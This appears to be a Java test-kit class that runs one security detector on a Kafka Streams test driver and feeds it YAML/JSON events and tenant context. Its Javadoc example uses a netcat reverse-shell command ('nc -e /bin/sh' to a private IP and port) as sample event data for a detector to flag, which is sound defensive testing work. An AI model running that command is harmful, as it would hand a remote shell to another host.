package dev.bulwark.detectors.testkit;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Properties;

import org.apache.kafka.common.serialization.Serdes;
import org.apache.kafka.streams.TestInputTopic;
import org.apache.kafka.streams.TestOutputTopic;
import org.apache.kafka.streams.TopologyTestDriver;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;

import dev.bulwark.detection.DeadLetterHandlers;
import dev.bulwark.detection.DetectionTopology;
import dev.bulwark.detection.TenantResolver;
import dev.bulwark.detectors.api.Detector;
import dev.bulwark.schemas.DeadLetter;
import dev.bulwark.schemas.Finding;
import dev.bulwark.schemas.SecurityEvent;
import dev.bulwark.schemas.SecurityEventJson;
import dev.bulwark.schemas.TenantContext;
import dev.bulwark.schemas.Topics;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;

/**
 * Runs one detector in the real detection topology on a {@link TopologyTestDriver}: feed tenant context and events
 * written as YAML or JSON (in the {@code TenantContext} and {@code SecurityEvent} shapes), read the findings.
 *
 * <pre>{@code
 * try (DetectorTestKit kit = DetectorTestKit.of(new MyDetector())) {
 *     kit.context("{kind: namespace, key: shop, tenant: acme}");
 *     kit.event("""
 *         kubernetes: {namespace: shop, pod: web-1}
 *         process: {name: nc, command_line: nc -e /bin/sh 10.0.0.9 4444}
 *         """);
 *     assertThat(kit.findings()).singleElement().satisfies(f -> assertThat(f.getTenant()).isEqualTo("acme"));
 * }
 * }</pre>
 *
 * <p>Why: a data engineer's detector test should be a few lines about the detection, not topology plumbing. The kit
 * uses the same decoding, dead-lettering, tenant enrichment and findings sink as production. Events without
 * {@code id}/{@code timestamp} get a running id and the kit's clock; context without {@code observed_at} gets the clock.
 */
public final class DetectorTestKit implements AutoCloseable {

    private static final ObjectMapper YAML = new ObjectMapper(new YAMLFactory());

    private final Topics topics = Topics.withPrefix("testkit.");
    private final Path stateDir;
    private final TopologyTestDriver driver;
    private final TestInputTopic<String, SecurityEvent> events;
    private final TestInputTopic<String, TenantContext> context;
    private final TestOutputTopic<String, Finding> findings;
    private final TestOutputTopic<String, DeadLetter> deadLetters;
    private Instant clock = Instant.parse("2026-01-01T00:00:00Z");
    private int sequence;

    private DetectorTestKit(Detector detector, Map<String, String> config, Map<String, String> staticTenants,
                            DetectionTopology.EnrichmentSettings enrichment) {
        try {
            stateDir = Files.createTempDirectory("detector-testkit-");
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        var topology = DetectionTopology.build(topics, List.of(detector), new TenantResolver(staticTenants),
                Map.of(detector.name(), config), new SimpleMeterRegistry(), enrichment);
        Properties props = DetectionTopology.streamsConfig(topics, "testkit:9092", "testkit", stateDir.toString(), false);
        props.put(DeadLetterHandlers.DETECTORS_CONFIG, List.of(detector.name()));
        driver = new TopologyTestDriver(topology, props, clock);
        events = driver.createInputTopic(topics.events().name(), Serdes.String().serializer(),
                topics.events().valueSerde().serializer());
        context = driver.createInputTopic(topics.context().name(), Serdes.String().serializer(),
                topics.context().valueSerde().serializer());
        findings = driver.createOutputTopic(topics.findings().name(), Serdes.String().deserializer(),
                topics.findings().valueSerde().deserializer());
        deadLetters = driver.createOutputTopic(topics.deadLetters().name(), Serdes.String().deserializer(),
                topics.deadLetters().valueSerde().deserializer());
    }

    /** A kit for a detector with no settings and no static tenants. */
    public static DetectorTestKit of(Detector detector) {
        return of(detector, Map.of(), Map.of());
    }

    /**
     * A kit for a detector.
     *
     * @param config the detector's settings ({@code detection.detectors.<name>.*})
     * @param staticTenants namespace to tenant, as the {@code tenants} configuration gives it
     */
    public static DetectorTestKit of(Detector detector, Map<String, String> config, Map<String, String> staticTenants) {
        return new DetectorTestKit(detector, config, staticTenants, DetectionTopology.EnrichmentSettings.DEFAULTS);
    }

    /** Feeds tenant context: one object or a list, as YAML or JSON; {@code {delete: "kind/key"}} deletes. */
    public DetectorTestKit context(String yamlOrJson) {
        for (JsonNode node : nodes(yamlOrJson)) {
            if (node.has("delete")) {
                context.pipeInput(node.get("delete").asText(), null, clock);
                continue;
            }
            ObjectNodeDefaults.putIfAbsent(node, "observed_at", clock.toEpochMilli());
            TenantContext value = SecurityEventJson.contextFromJson(node);
            context.pipeInput(value.getKind() + "/" + value.getKey(), value, clock);
        }
        return this;
    }

    /** Feeds events: one object or a list, as YAML or JSON, in the {@code SecurityEvent} shape. */
    public DetectorTestKit event(String yamlOrJson) {
        for (JsonNode node : nodes(yamlOrJson)) {
            ObjectNodeDefaults.putIfAbsent(node, "id", "event-" + (++sequence));
            ObjectNodeDefaults.putIfAbsent(node, "timestamp", clock.toEpochMilli() * 1_000_000L);
            send(SecurityEventJson.fromJson(node));
        }
        return this;
    }

    /** Feeds events from a YAML or JSON file. */
    public DetectorTestKit events(Path file) {
        try {
            return event(Files.readString(file));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Feeds one built event. */
    public DetectorTestKit send(SecurityEvent event) {
        String key = event.getContainer() != null && event.getContainer().getId() != null
                ? "container/" + event.getContainer().getId() : "event/" + event.getId();
        events.pipeInput(key, event, Instant.ofEpochMilli(Math.floorDiv(event.getTimestamp(), 1_000_000L)));
        return this;
    }

    /** Feeds one built context record under its {@code kind/key}; a null value deletes the object. */
    public DetectorTestKit send(String key, TenantContext value) {
        context.pipeInput(key, value, clock);
        return this;
    }

    /** Moves the kit's clock (event time for new records) and the driver's wall clock (punctuations) forward. */
    public DetectorTestKit advance(Duration duration) {
        clock = clock.plus(duration);
        driver.advanceWallClockTime(duration);
        return this;
    }

    /** The kit's clock: the time new events and context get by default. */
    public Instant now() {
        return clock;
    }

    /** Findings emitted since the last call, in order. */
    public List<Finding> findings() {
        return findings.readValuesToList();
    }

    /** Findings emitted since the last call, latest version per finding id. */
    public Map<String, Finding> latestFindings() {
        Map<String, Finding> latest = new LinkedHashMap<>();
        for (Finding finding : findings()) {
            latest.put(finding.getId(), finding);
        }
        return latest;
    }

    /** Dead letters emitted since the last call. */
    public List<DeadLetter> deadLetters() {
        return deadLetters.readValuesToList();
    }

    private static List<JsonNode> nodes(String yamlOrJson) {
        try {
            JsonNode root = YAML.readTree(yamlOrJson);
            List<JsonNode> nodes = new ArrayList<>();
            if (root == null || root.isMissingNode()) {
                return nodes;
            }
            if (root.isArray()) {
                root.forEach(nodes::add);
            } else {
                nodes.add(root);
            }
            return nodes;
        } catch (IOException e) {
            throw new IllegalArgumentException("not YAML or JSON: " + e.getMessage(), e);
        }
    }

    @Override
    public void close() {
        driver.close();
        try (var paths = Files.walk(stateDir)) {
            paths.sorted(java.util.Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
        } catch (IOException e) {
            // temporary directory; best effort
        }
    }

    /** Small helper: default values on YAML objects. */
    private static final class ObjectNodeDefaults {
        static void putIfAbsent(JsonNode node, String field, Object value) {
            if (node instanceof com.fasterxml.jackson.databind.node.ObjectNode object && !object.has(field)) {
                if (value instanceof Long number) {
                    object.put(field, number);
                } else {
                    object.put(field, value.toString());
                }
            }
        }
    }
}
